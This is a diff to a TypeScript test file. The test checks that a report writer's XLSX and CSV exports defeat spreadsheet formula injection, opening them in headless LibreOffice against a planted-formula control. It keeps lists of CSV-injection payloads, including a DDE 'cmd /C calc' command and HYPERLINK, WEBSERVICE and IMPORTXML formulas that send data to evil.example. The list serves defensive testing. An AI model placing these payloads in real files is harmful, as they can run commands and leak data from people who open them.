@@ -1,15 +1,25 @@
+import { execFileSync } from 'node:child_process'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { deflateSync } from 'node:zlib'
-import { strToU8, zipSync } from 'fflate'
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
 import { afterAll, expect, test } from 'vitest'
+import { renderCsv } from '../../../server/report/csv.ts'
 import { Writing } from '../../../server/report/writing.ts'
 import { reportFiles } from '../../../shared/report/formats.ts'
+import { assembleSheets } from '../../../shared/report/sheets.ts'
 import type { ReportInput } from '../../../shared/report/telling.ts'
 import { activeIn, partsOf } from '../../kit/report-scan.ts'
 import { cardOf } from '../../kit/report-sample.ts'
 import { placedReport } from '../../kit/placed-report.ts'
 
+const folder = mkdtempSync(join(tmpdir(), 'roundtable-x1-'))
 const writing = new Writing()
-afterAll(() => writing.close())
+afterAll(async () => {
+  await writing.close()
+  rmSync(folder, { recursive: true, force: true })
+})
 
 const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u3000@', '＝', '＋', '－', '＠', '"=', "'=", ';=', 'a;=', 'a; @', 'a\n=', 'a\n\t@', 'a\r\n+', '1,=', '"",='] // prettier-ignore
 const bodies = ["cmd|' /C calc'!A0", '40000+2345', 'HYPERLINK("http://evil.example/?"&A1)', 'WEBSERVICE("http://evil.example")', 'IMPORTXML("http://evil.example","//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", 'SUM(A1:A9)'] // prettier-ignore
@@ -66,3 +76,63 @@ test('X1, control: of each sort of active content one is found in each sort of f
   ]
   for (const [format, file] of planted) expect(activeIn(file, format), Buffer.from(file).toString('latin1')).not.toEqual([])
 })
+
+/** `SOFFICE` names another than the machine's own, where that is without Calc. */
+const soffice = process.env['SOFFICE'] ?? 'soffice'
+
+/** True where LibreOffice can open a spreadsheet: many machines have its Writer alone. */
+function hasCalc(): boolean {
+  writeFileSync(join(folder, 'sum.csv'), '1,2')
+  try {
+    return shownBy(['sum.csv'])[0] !== ''
+  } catch {
+    return false
+  }
+}
+
+/** Reads CSV as a spreadsheet does that takes for a formula whatever looks like one; other files it opens as they are. */
+const careless = ['--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true']
+
+/** What a spreadsheet shows after it has opened the files and worked everything out. */
+function shownBy(names: readonly string[], filter: readonly string[] = []): string[] {
+  const paths = names.map((name) => join(folder, name))
+  const given = [
+    `-env:UserInstallation=file://${folder}/profile`,
+    '--headless',
+    ...filter,
+    '--convert-to',
+    'ods',
+    '--outdir',
+    join(folder, 'read'),
+  ]
+  execFileSync(soffice, [...given, ...paths], { stdio: 'ignore' })
+  return names.map(
+    (name) => Object.fromEntries(partsOf(readFileSync(join(folder, 'read', name.replace(/\.\w+$/, '.ods')))))['content.xml'] ?? '',
+  )
+}
+
+const formula = /table:formula=/
+const workedOut = (text: string) => [text.includes('42345'), formula.test(text)]
+
+test.skipIf(!hasCalc())('X1: a spreadsheet that opens and works out our files works out nothing in them; control: formulas, and words written as they are', { timeout: 240_000 }, async () => {
+  const input = harmful(starts.map((start) => `${start}40000+2345`))
+  const ours = await writing.write('xlsx', input)
+  const cells = unzipSync(ours)
+  // The control: of two cells of our own workbook one is a formula.
+  const [name, sheet] = Object.entries(cells).find(([part]) => part.startsWith('xl/worksheets/sheet'))!
+  const planted = strFromU8(sheet).replace(/<c r="(B2|C2)"[^>]*>.*?<\/c>/g, '<c r="$1"><f>40000+2345</f></c>')
+  writeFileSync(join(folder, 'workbook.xlsx'), ours)
+  writeFileSync(join(folder, 'planted.xlsx'), zipSync({ ...cells, [name]: strToU8(planted) }))
+  const [workbook = '', control = ''] = shownBy(['workbook.xlsx', 'planted.xlsx'])
+  expect(workbook).toContain('40000+2345')
+  expect([workbook, control].map(workedOut)).toEqual([[false, false], [true, true]])
+
+  const cards = assembleSheets(input).find(({ head }) => head.includes('Note'))!
+  writeFileSync(join(folder, 'ours.csv'), renderCsv(cards))
+  const bare = cards.rows.map((row) => row.map((cell) => `"${String(cell ?? '').replaceAll('"', '""')}"`).join(',')).join('\r\n')
+  writeFileSync(join(folder, 'bare.csv'), bare)
+  const [csv = '', bareCsv = ''] = shownBy(['ours.csv', 'bare.csv'], careless)
+  expect(csv).toContain('40000+2345')
+  expect([csv, bareCsv].map((text) => text.includes('42345'))).toEqual([false, true])
+  expect(csv).not.toMatch(formula)
+}) // prettier-ignore
